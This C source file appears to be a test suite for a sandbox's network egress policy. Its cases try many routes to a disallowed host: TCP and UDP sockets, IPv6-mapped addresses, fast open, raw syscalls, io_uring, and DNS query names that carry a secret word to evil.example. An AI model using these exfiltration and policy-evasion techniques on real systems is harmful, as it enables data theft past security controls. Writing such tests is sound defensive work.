// Ways out to an address that the policy does not name. Each hands over a word that the listener has to
// receive.
#include "attack.h"

#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#define ADDRESS "203.0.113.10"
#define NAME "evil.example"
#define PORT 8443
#define WORD "exfiltrated"

long ring_request(const struct io_uring_sqe *request);

static struct sockaddr_in target(void) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(PORT)};
  inet_pton(AF_INET, ADDRESS, &address.sin_addr);
  return address;
}

static void hand_over(int socket) {
  if (send(socket, WORD, sizeof WORD - 1, 0) < 0)
    say("send: %s\n", strerror(errno));
  close(socket);
}

static void after_connecting(int socket, long result) {
  if (result == 0)
    hand_over(socket);
  else {
    say("connect: %ld %s\n", result, strerror(errno));
    close(socket);
  }
}

ATTACK(network_address) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  after_connecting(socket_, connect(socket_, (struct sockaddr *)&address, sizeof address));
}

ATTACK(network_name) {
  struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *found = NULL;
  int error = getaddrinfo(NAME, "8443", &hints, &found);
  if (error != 0) {
    say("getaddrinfo: %s\n", gai_strerror(error));
    return;
  }
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  after_connecting(socket_, connect(socket_, found->ai_addr, found->ai_addrlen));
  freeaddrinfo(found);
}

ATTACK(network_older_resolver) {
  struct hostent *host = gethostbyname(NAME);
  if (host == NULL)
    return;
  struct sockaddr_in address = target();
  memcpy(&address.sin_addr, host->h_addr_list[0], 4);
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  after_connecting(socket_, connect(socket_, (struct sockaddr *)&address, sizeof address));
}

ATTACK(network_mapped_address) {
  struct sockaddr_in6 address = {.sin6_family = AF_INET6, .sin6_port = htons(PORT)};
  inet_pton(AF_INET6, "::ffff:" ADDRESS, &address.sin6_addr);
  int socket_ = socket(AF_INET6, SOCK_STREAM, 0);
  after_connecting(socket_, connect(socket_, (struct sockaddr *)&address, sizeof address));
}

ATTACK(network_allowed_host_other_port) {
  struct sockaddr_in address = target();
  inet_pton(AF_INET, "203.0.113.20", &address.sin_addr);
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  after_connecting(socket_, connect(socket_, (struct sockaddr *)&address, sizeof address));
}

ATTACK(network_datagram) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  if (sendto(socket_, WORD, sizeof WORD - 1, 0, (struct sockaddr *)&address, sizeof address) < 0)
    say("%s\n", strerror(errno));
  close(socket_);
}

ATTACK(network_connected_datagram) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  after_connecting(socket_, connect(socket_, (struct sockaddr *)&address, sizeof address));
}

static struct msghdr message(struct sockaddr_in *address, struct iovec *part) {
  part->iov_base = WORD;
  part->iov_len = sizeof WORD - 1;
  return (struct msghdr){
      .msg_name = address, .msg_namelen = sizeof *address, .msg_iov = part, .msg_iovlen = 1};
}

ATTACK(network_message) {
  struct sockaddr_in address = target();
  struct iovec part;
  struct msghdr header = message(&address, &part);
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  if (sendmsg(socket_, &header, 0) < 0)
    say("%s\n", strerror(errno));
  close(socket_);
}

ATTACK(network_many_messages) {
  struct sockaddr_in address = target();
  struct iovec part;
  struct mmsghdr vector[1] = {{.msg_hdr = message(&address, &part)}};
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  if (sendmmsg(socket_, vector, 1, 0) < 0)
    say("%s\n", strerror(errno));
  close(socket_);
}

ATTACK(network_fast_open) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  if (sendto(socket_, WORD, sizeof WORD - 1, MSG_FASTOPEN, (struct sockaddr *)&address, sizeof address) < 0) {
    say("%s\n", strerror(errno));
  }
  close(socket_);
}

// Allowed first, then connected anew to somewhere else.
ATTACK(network_reconnected) {
  struct sockaddr_in address = target(), loopback = target(), nowhere = {.sin_family = AF_UNSPEC};
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  inet_pton(AF_INET, "127.0.0.1", &loopback.sin_addr);
  connect(socket_, (struct sockaddr *)&loopback, sizeof loopback);
  connect(socket_, (struct sockaddr *)&nowhere, sizeof nowhere);
  after_connecting(socket_, connect(socket_, (struct sockaddr *)&address, sizeof address));
}

ATTACK(network_syscall_function) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  after_connecting(socket_, syscall(SYS_connect, socket_, &address, sizeof address));
}

ATTACK(network_inline_syscall) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  after_connecting(socket_, inline_syscall(SYS_connect, socket_, (long)&address, sizeof address, 0, 0, 0));
}

ATTACK(network_ring) {
  struct sockaddr_in address = target();
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  struct io_uring_sqe request = {
      .opcode = IORING_OP_CONNECT, .fd = socket_, .addr = (uintptr_t)&address, .off = sizeof address};
  after_connecting(socket_, ring_request(&request));
}

// A question that carries the secret in its name, straight to the resolver.
static size_t question(unsigned char *packet, const char *name) {
  unsigned char *end = packet + 12;
  memset(packet, 0, 12);
  packet[1] = 1, packet[2] = 1, packet[5] = 1;
  for (const char *label = name; *label != 0;) {
    size_t length = strcspn(label, ".");
    *end++ = (unsigned char)length;
    memcpy(end, label, length);
    end += length;
    label += length + (label[length] == '.');
  }
  memcpy(end, "\0\0\1\0\1", 5);
  return (size_t)(end + 5 - packet);
}

ATTACK(network_own_question) {
  unsigned char packet[256];
  struct sockaddr_in address = target();
  size_t length = question(packet, WORD "." NAME);
  address.sin_port = htons(53);
  inet_pton(AF_INET, "203.0.113.53", &address.sin_addr);
  int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
  if (sendto(socket_, packet, length, 0, (struct sockaddr *)&address, sizeof address) < 0)
    say("%s\n", strerror(errno));
  close(socket_);
}

ATTACK(network_own_question_stream) {
  unsigned char packet[258];
  struct sockaddr_in address = target();
  size_t length = question(packet + 2, WORD "." NAME);
  packet[0] = 0, packet[1] = (unsigned char)length;
  address.sin_port = htons(53);
  inet_pton(AF_INET, "203.0.113.53", &address.sin_addr);
  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(socket_, (struct sockaddr *)&address, sizeof address) != 0)
    say("%s\n", strerror(errno));
  else if (write(socket_, packet, length + 2) < 0)
    say("%s\n", strerror(errno));
  close(socket_);
}

// libc asks the resolver: the name alone carries the secret out, whatever becomes of the answer.
ATTACK(network_name_as_message) {
  struct addrinfo *found = NULL;
  if (getaddrinfo(WORD "." NAME, NULL, NULL, &found) == 0)
    freeaddrinfo(found);
}
